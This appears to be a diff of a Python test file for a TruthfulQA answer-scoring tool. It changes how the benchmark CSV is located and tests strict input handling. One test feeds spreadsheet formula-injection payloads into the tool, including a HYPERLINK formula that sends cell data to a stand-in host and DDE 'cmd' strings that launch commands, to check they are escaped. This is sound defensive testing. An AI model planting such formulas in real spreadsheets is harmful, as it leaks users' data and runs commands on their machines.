@@ -19,11 +19,9 @@ from pathlib import Path
 
 import pytest
 
+from tests.truthfulqa import TRUTHFULQA
 from tests.view_runs import qa_run
 
-TRUTHFULQA = Path(__file__).resolve().parents[1] / "../shared/data/truthfulqa/TruthfulQA.csv"
-needs_truthfulqa = pytest.mark.skipif(not TRUTHFULQA.exists(),
-                                      reason="TruthfulQA CSV not next to the repository")
 UMASK = 0o027  # not the usual 0022, so a mode that ignores it (0600, 0644) cannot pass by chance
 
 
@@ -61,7 +59,6 @@ def run(tmp_path_factory: pytest.TempPathFactory) -> Path:
 
 # ---- strict input: a2c score ----
 
-@needs_truthfulqa
 @pytest.mark.parametrize(("name", "text", "expected"), [
     # row 1 of 3 opens a quote it never closes: before, rows 2 and 3 became its answer (1 scored, exit 0)
     ("open.csv", 'id,answer\ntruthfulqa-0,"Nothing happens.\ntruthfulqa-1,Japan\ntruthfulqa-2,Blue\n',
@@ -86,7 +83,6 @@ def test_score_refuses_malformed_answers_with_file_and_line(tmp_path, name, text
     assert sorted(p.name for p in tmp_path.iterdir()) == [name]  # no .scores folder
 
 
-@needs_truthfulqa
 def test_scores_csv_escapes_formulas_and_keeps_numbers(tmp_path):
     answers = ["=HYPERLINK(\"http://x.example/?\"&A1,\"click\")", "=cmd|' /C calc'!A0",
                "@SUM(1+1)*cmd|' /C x'!A0",
@@ -104,7 +100,6 @@ def test_scores_csv_escapes_formulas_and_keeps_numbers(tmp_path):
     assert float(scored[-1]["rouge1_diff"]) < 0  # a negative score stays a number, not escaped
 
 
-@needs_truthfulqa
 def test_score_out_onto_a_file_or_a_run_is_refused(tmp_path, run):
     (tmp_path / "a.jsonl").write_text('{"id": "truthfulqa-0", "answer": "x"}\n', encoding="utf-8")
     (tmp_path / "taken.txt").write_text("mine\n", encoding="utf-8")
